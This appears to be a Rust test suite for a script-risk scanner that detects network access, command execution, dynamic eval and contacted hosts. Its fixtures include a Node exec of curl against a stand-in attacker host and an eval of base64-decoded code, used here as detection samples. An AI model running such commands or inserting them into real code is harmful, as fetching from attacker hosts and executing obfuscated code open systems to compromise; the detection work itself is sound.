use mosaic::scanner::{scan, scan_task, SourceCollection};

#[test]
fn detects_network_exec_and_host() {
    let profile = scan("require('child_process').exec('curl https://evil.example.com/x')");
    assert!(profile.network);
    assert!(profile.exec_command);
    assert!(profile.hosts.iter().any(|host| host == "evil.example.com"));
}

#[test]
fn dynamic_exec_is_high_risk() {
    let profile = scan("eval(atob('ZWNobyBoaQ=='))");
    assert!(profile.dynamic_exec);
    assert_eq!(profile.risk, "high");
}

#[test]
fn benign_output_is_minimal() {
    let profile = scan("console.log(JSON.stringify({ ok: true }))");
    assert_eq!(profile.risk, "minimal");
    assert!(profile.findings.is_empty());
}

#[test]
fn inline_node_source_is_actually_scanned() {
    let args: Vec<String> = vec!["-e".into(), "fetch('https://example.com')".into()];
    let sources = SourceCollection::new("node", &args);
    let profile = scan_task("node", &args, sources);
    assert!(profile.network);
    assert!(profile.scope.contains("内嵌源码"));
}

#[test]
fn missing_or_binary_source_is_unknown() {
    let args: Vec<String> = Vec::new();
    let sources = SourceCollection::new("missing-tool.exe", &args);
    let profile = scan_task("missing-tool.exe", &args, sources);
    assert_eq!(profile.risk, "unknown");
    assert_eq!(profile.files_scanned, 0);
}

#[test]
fn collected_project_source_is_scanned() {
    let args: Vec<String> = vec!["main.py".into()];
    let mut sources = SourceCollection::new("python", &args);
    assert!(sources.enter());
    let text = "import requests\nrequests.get('https://api.example.com/data')\n";
    assert!(sources.offer("main.py", text.len(), Some(text)));
    let profile = scan_task("python", &args, sources);
    assert_eq!(profile.files_scanned, 1);
    assert!(profile.network);
    assert!(profile.hosts.iter().any(|host| host == "api.example.com"));
}

#[test]
fn oversized_file_stops_the_walk() {
    let args: Vec<String> = Vec::new();
    let mut sources = SourceCollection::new("python", &args);
    assert!(sources.enter());
    assert!(!sources.offer("big.py", 2 * 1024 * 1024, Some("x")));
    assert!(sources.truncated);
}

#[test]
fn scanning_more_text_never_finds_less() {
    let a = scan("fs.readFile('x')");
    let b = scan("fs.readFile('x'); require('child_process').exec('ls')");
    assert!(a.reads_files && b.reads_files);
    assert!(b.exec_command);
    let rank = |r: &str| match r {
        "high" => 3,
        "medium" => 2,
        "low" => 1,
        _ => 0,
    };
    assert!(rank(&b.risk) >= rank(&a.risk));
}
